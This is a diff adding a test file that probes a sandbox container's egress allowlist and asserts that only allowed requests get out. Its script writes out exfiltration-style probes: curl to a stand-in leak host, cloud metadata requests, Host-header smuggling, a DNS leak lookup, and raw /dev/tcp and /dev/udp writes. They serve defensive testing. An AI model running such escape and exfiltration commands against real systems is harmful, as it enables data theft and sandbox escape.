@@ -1,0 +1,170 @@
+import { createServer, type Server } from 'node:http';
+import { createSocket, type Socket as UdpSocket } from 'node:dgram';
+import type { AddressInfo } from 'node:net';
+import { networkInterfaces } from 'node:os';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { createHarness, runCommand, sandboxSkipReason, type CommandRun, type Harness } from './harness';
+
+/**
+ * Attack tests from inside a real container (issue 5, "Egress allowlist"). The "outside" is made
+ * by the test on this machine only: an HTTP server on all of the host's addresses (standing in
+ * for an allowed site and for services on the host), a UDP listener, and names that the proxy's
+ * resolver maps to them. Every probe but the two allowed ones must fail, and the host servers must
+ * see nothing else.
+ */
+
+const skip = await sandboxSkipReason();
+if (skip) console.warn(`[sandbox] skipping egress attack tests: ${skip}`);
+
+let harness: Harness;
+let server: Server;
+let udp: UdpSocket;
+let run: CommandRun;
+const hits: string[] = [];
+const udpHits: string[] = [];
+const lookedUp: string[] = [];
+const results = new Map<string, { ok: boolean; output: string }>();
+
+/** A host address other than loopback, so "no route out" is tested against this machine only. */
+function hostAddress(): string {
+  for (const list of Object.values(networkInterfaces())) for (const a of list ?? []) if (a.family === 'IPv4' && !a.internal) return a.address;
+  return '127.0.0.1';
+}
+
+describe.skipIf(skip)('egress from a real sandbox container', () => {
+  beforeAll(async () => {
+    server = createServer((req, res) => {
+      hits.push(`${req.method} ${req.headers.host} ${req.url}`);
+      res.end('hello from outside\n');
+    });
+    // '::' is dual-stack: the server answers on every host address, loopback and IPv6 included.
+    await new Promise<void>((resolve) => server.listen(0, '::', resolve));
+    const port = (server.address() as AddressInfo).port;
+    udp = createSocket('udp4');
+    udp.on('message', (m) => udpHits.push(m.toString()));
+    await new Promise<void>((resolve) => udp.bind(0, '0.0.0.0', resolve));
+    const udpPort = udp.address().port;
+
+    harness = await createHarness({
+      // The proxy's resolver: the allowed name and a wildcard-matched name both point at this
+      // machine's loopback; any other name is recorded (a leak would show here) and unknown.
+      lookup: async (name) => {
+        lookedUp.push(name);
+        if (name === 'allowed.test' || name === 'x.wild.test') return [{ address: '127.0.0.1', family: 4 }];
+        throw Object.assign(new Error(`ENOTFOUND ${name}`), { code: 'ENOTFOUND' });
+      },
+    });
+    const hostIp = hostAddress();
+    const script = `
+P=${port}; U=${udpPort}; H=${hostIp}
+t() { name=$1; shift; if "$@" >/tmp/out 2>&1; then r=ok; else r=fail; fi; echo "RESULT $name $r $(head -c 300 /tmp/out | tr '\\n' ' ')"; }
+t allowed_http curl -sS -f -m 10 http://allowed.test:$P/hello
+t allowed_connect curl -sS -f -m 10 -p http://allowed.test:$P/hello
+t other_domain curl -sS -f -m 10 http://other.test:$P/
+t other_domain_connect curl -sS -f -m 10 -p http://other.test:$P/
+t other_domain_https curl -sS -f -m 10 https://leak-secret-data.example/
+t host_header_smuggling curl -sS -f -m 10 -H 'Host: allowed.test' http://other.test:$P/
+t allowed_name_other_port curl -sS -f -m 10 http://allowed.test:$((P + 1))/
+t raw_ip curl -sS -f -m 10 http://127.0.0.1:$P/
+t raw_ip_connect curl -sS -f -m 10 -p http://127.0.0.1:$P/
+t host_ip_via_proxy curl -sS -f -m 10 http://$H:$P/
+t metadata curl -sS -f -m 10 http://169.254.169.254/latest/meta-data/
+t metadata_connect curl -sS -f -m 10 -p http://169.254.169.254:80/
+t ipv6_via_proxy curl -sS -f -m 10 "http://[::1]:$P/"
+t ipv6_connect curl -sS -f -m 10 -p "http://[::1]:$P/"
+t wildcard_name_to_loopback curl -sS -f -m 10 -p http://x.wild.test:$P/
+t direct_loopback curl -sS -f -m 5 --noproxy '*' http://127.0.0.1:$P/
+t direct_ipv6_loopback curl -sS -f -m 5 --noproxy '*' "http://[::1]:$P/"
+t direct_host_ip curl -sS -f -m 5 --noproxy '*' http://$H:$P/
+t direct_metadata curl -sS -f -m 5 --noproxy '*' http://169.254.169.254/
+t dns_lookup getent hosts allowed.test
+t dns_leak getent hosts secret-data.leak.example
+t raw_tcp bash -c "exec 3<>/dev/tcp/$H/$P"
+t raw_udp bash -c "echo leaked > /dev/udp/$H/$U"
+t has_route sh -c 'test "$(wc -l < /proc/net/route)" -gt 1 || test -n "$(grep -v "^00000000000000000000000000000001\\|^fe80\\|^ff" /proc/net/ipv6_route 2>/dev/null | grep -v " lo$")"'
+t non_http_through_relay sh -c "printf 'SSH-2.0-probe\\r\\n\\r\\n' | socat -t 3 - TCP:127.0.0.1:3128 | grep -q ' 200 '"
+echo END
+`;
+    const timer = setTimeout(() => console.warn(`[sandbox] the probe container is still running after 60 s; sandbox log:\n${harness.logs.join('\n')}`), 60_000);
+    run = await runCommand(harness, script, { allowlist: [`allowed.test:${port}`, `*.wild.test:${port}`] });
+    clearTimeout(timer);
+    for (const line of run.lines) {
+      const m = /^RESULT (\S+) (ok|fail) ?(.*)$/.exec(line);
+      if (m) results.set(m[1]!, { ok: m[2] === 'ok', output: m[3] ?? '' });
+    }
+  }, 180_000);
+
+  afterAll(async () => {
+    server?.closeAllConnections();
+    await new Promise<void>((resolve) => (server ? server.close(() => resolve()) : resolve()));
+    udp?.close();
+    await harness?.cleanup();
+  });
+
+  const probe = (name: string) => {
+    const r = results.get(name);
+    expect(r, `probe ${name} did not run; log:\n${run.lines.join('\n')}`).toBeDefined();
+    return r!;
+  };
+
+  it('ran every probe', () => {
+    expect(run.result.exitCode, run.lines.join('\n')).toBe(0);
+    expect(run.lines).toContain('END');
+  });
+
+  it('reaches the allowed host, by absolute URI and through CONNECT', () => {
+    expect(probe('allowed_http')).toMatchObject({ ok: true, output: expect.stringContaining('hello from outside') });
+    expect(probe('allowed_connect')).toMatchObject({ ok: true, output: expect.stringContaining('hello from outside') });
+  });
+
+  it.each([
+    'other_domain',
+    'other_domain_connect',
+    'other_domain_https',
+    'host_header_smuggling',
+    'allowed_name_other_port',
+    'raw_ip',
+    'raw_ip_connect',
+    'host_ip_via_proxy',
+    'metadata',
+    'metadata_connect',
+    'ipv6_via_proxy',
+    'ipv6_connect',
+    'wildcard_name_to_loopback',
+  ])('the proxy refuses %s', (name) => {
+    const r = probe(name);
+    expect(r.ok, r.output).toBe(false);
+    expect(r.output).toMatch(/403|coSPEC egress/);
+  });
+
+  it.each(['direct_loopback', 'direct_ipv6_loopback', 'direct_host_ip', 'direct_metadata', 'raw_tcp', 'raw_udp'])('%s has no way out', (name) => {
+    const r = probe(name);
+    expect(r.ok, r.output).toBe(false);
+  });
+
+  it('has no route and no resolver of its own, and the proxy resolves only allowed names', () => {
+    expect(probe('has_route').ok).toBe(false);
+    expect(probe('dns_lookup').ok).toBe(false);
+    expect(probe('dns_leak').ok).toBe(false);
+    expect(new Set(lookedUp)).toEqual(new Set(['allowed.test', 'x.wild.test']));
+  });
+
+  it('answers non-HTTP bytes sent to the relay with an error', () => {
+    expect(probe('non_http_through_relay').ok).toBe(false);
+  });
+
+  it('lets only the two allowed requests reach the host servers, and no UDP at all', () => {
+    expect(hits).toEqual([`GET allowed.test:${(server.address() as AddressInfo).port} /hello`, `GET allowed.test:${(server.address() as AddressInfo).port} /hello`]);
+    expect(udpHits).toEqual([]);
+  });
+
+  it('records each verdict for the run record', () => {
+    const port = (server.address() as AddressInfo).port;
+    const egress = run.result.egress;
+    expect(egress).toContainEqual(expect.objectContaining({ destination: `allowed.test:${port}`, verdict: 'allowed', count: 2 }));
+    expect(egress).toContainEqual(expect.objectContaining({ destination: `other.test:${port}`, verdict: 'denied', reason: 'other.test is not on the allowlist' }));
+    expect(egress).toContainEqual(expect.objectContaining({ destination: '169.254.169.254:80', verdict: 'denied' }));
+    expect(egress).toContainEqual(expect.objectContaining({ destination: `x.wild.test:${port}`, verdict: 'denied', reason: expect.stringContaining('loopback') }));
+    expect(egress.filter((e) => e.verdict === 'allowed').map((e) => e.destination)).toEqual([`allowed.test:${port}`]);
+  });
+});
